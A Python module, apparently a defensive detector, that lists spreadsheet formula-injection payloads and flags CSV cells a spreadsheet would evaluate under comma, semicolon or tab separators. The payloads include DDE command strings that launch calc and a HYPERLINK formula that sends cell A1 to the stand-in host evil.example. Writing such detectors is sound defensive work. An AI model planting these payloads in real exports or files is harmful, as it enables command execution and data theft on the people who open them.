"""Texts that a spreadsheet would run, and how it reads: with any of three separators, blanks and quotes dropped."""

import csv
import io
from typing import Final

SIGNS: Final = "=+-@＝＋－＠"
_LEADS: Final = ("", " ", '"', "\t", "\r", "\n", "\r\n", "a;", "a\t", "a,", 'a","', 'a"; ', "a\n")
PAYLOADS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    *(f"{lead}{sign}cmd|'/c calc'!A1" for lead in _LEADS for sign in SIGNS),
    '=HYPERLINK("https://evil.example?x="&A1,"click")', "=IMPORTXML(A1)", "=DDE(1)",
    "=2+5+cmd|' /C calc'!A0", "''=1", "'=1",
)  # fmt: skip
"""6 and more than 60 ways to begin a formula."""


def live(text: str) -> list[str]:
    """The cells that a spreadsheet would run, with whatever separator it reads the file."""
    return [
        one
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for one in row
        if one.lstrip(' \t\r\n\0"')[:1] in set(SIGNS) and not _a_number(one)
    ]


def _a_number(cell: str) -> bool:
    """A number may be negative."""
    try:
        float(cell)
    except ValueError:
        return False
    return True
